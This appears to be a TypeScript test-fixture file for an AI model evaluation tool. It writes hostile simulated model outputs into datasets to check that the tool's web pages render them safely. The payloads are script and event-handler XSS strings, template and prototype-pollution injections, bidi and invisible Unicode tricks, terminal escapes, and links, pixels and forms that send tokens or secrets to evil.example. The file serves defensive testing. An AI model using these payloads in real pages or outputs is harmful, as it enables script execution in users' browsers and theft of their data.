// What the stack serves beside the examples: a model that says whatever harms a page, one that is slow, one that breaks.

import {writeFileSync} from 'node:fs';
import {join} from 'node:path';
import {copyExamples, type Endpoints} from './stack.ts';

// Model output that tries to run, to load, to lead away, or to look like something else. An address that it names must
// never be asked for.
export const hostile: Record<string, string> = {
  script: '<script>alert("ran")</script>',
  'script-broken': '"><script src=http://evil.example/x.js></script>',
  image: '<img src=x onerror="alert(1)"><img src="http://evil.example/pixel.gif">',
  svg: '<svg/onload=alert(1)><svg><use href="http://evil.example/a.svg#b"/></svg>',
  iframe: '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe><iframe src="http://evil.example/"></iframe>',
  link: '[click](javascript:alert(1)) <a href="javascript:alert(1)">me</a> http://evil.example/?stolen=1',
  markdown: '![tracker](http://evil.example/track.png?q=secret) <style>@import url(http://evil.example/x.css)</style>',
  template: '{{constructor.constructor("alert(1)")()}} ${alert(1)} <%= 7*7 %>',
  closing: '</script></style></textarea></title><body onload=alert(1)>',
  base: '<base href="http://evil.example/"><meta http-equiv="refresh" content="0;url=http://evil.example/">',
  form: '<form action="http://evil.example/"><input name=token><button>Sign in</button></form>',
  bidi: 'access_level = "user\u202e \u2066// check if admin\u2069 \u2066"',
  invisible: 'ap\u200bprove\u2060d\ufeff \u{e0041}\u{e0042} soft\u00adhyphen',
  terminal: '\u001b[2J\u001b[31mred\u001b[0m \u001b]8;;http://evil.example\u0007link\u001b]8;;\u0007',
  rtl: 'שלום, הנה התשובה: <b>123</b> and back',
  prototype: '__proto__ constructor {"__proto__": {"polluted": true}}',
  long: Array.from({length: 2000}, (_, at) => `${at} ${'lorem ipsum dolor sit amet '.repeat(4)}`).join('\n').slice(0, 200_000),
};

function model(name: string, url: string, concurrency: number): string {
  return `kind: Model
name: ${name}
version: "1"
endpoint:
  provider: openai-chat
  url: ${url}
  model: ${name}
  attempts: 1
  limits: {concurrency: ${concurrency}}
`;
}

function suite(name: string, extra = ''): string {
  return `kind: Suite
name: ${name}
dataset: [{file: ${name}.jsonl, id: id}]
prompt: [{system: Say it back.}, {user: "{{text}}"}]
graders:
  - {name: short, type: regex, pattern: "^.{0,60}$"}
${extra}`;
}

const jsonl = (rows: object[]): string => rows.map((row) => JSON.stringify(row)).join('\n') + '\n';

export function writeDocuments(catalog: string, endpoints: Endpoints): void {
  writeCalm(catalog, endpoints);
  const write = (name: string, text: string) => writeFileSync(join(catalog, name), text);
  write('hostile.jsonl', jsonl(Object.entries(hostile).map(([id, text]) => ({id, text}))));
  write('hostile.yaml', `${suite('hostile')}---\n${model('hostile-bot', endpoints.echo, 8)}---
kind: Gate
name: hostile-release
description: <b onmouseover=alert(1)>Says</b> what harms a page
suites: [hostile]
rules:
  - {name: short-answers, grader: short, at_least: 0.9}
`);
}

// Without what harms.
export function writeCalm(catalog: string, {recorded, slow, broken}: Endpoints): void {
  copyExamples(catalog, recorded);
  const write = (name: string, text: string) => writeFileSync(join(catalog, name), text);
  write('steady.jsonl', jsonl(Array.from({length: 120}, (_, at) => ({id: `steady-${at}`, text: `sentence ${at}`}))));
  write(
    'steady.yaml',
    `${suite('steady')}---\n${model('slow-bot', slow, 4)}---\n${model('broken-bot', broken, 8)}`,
  );
  write('new.yaml', 'kind: Gate\nname: web-agent\ndescription: An agent that finds its way through web pages\nsuites: [steady]\nrules: [{name: floor, grader: short, at_least: 0.5}]\n');
}
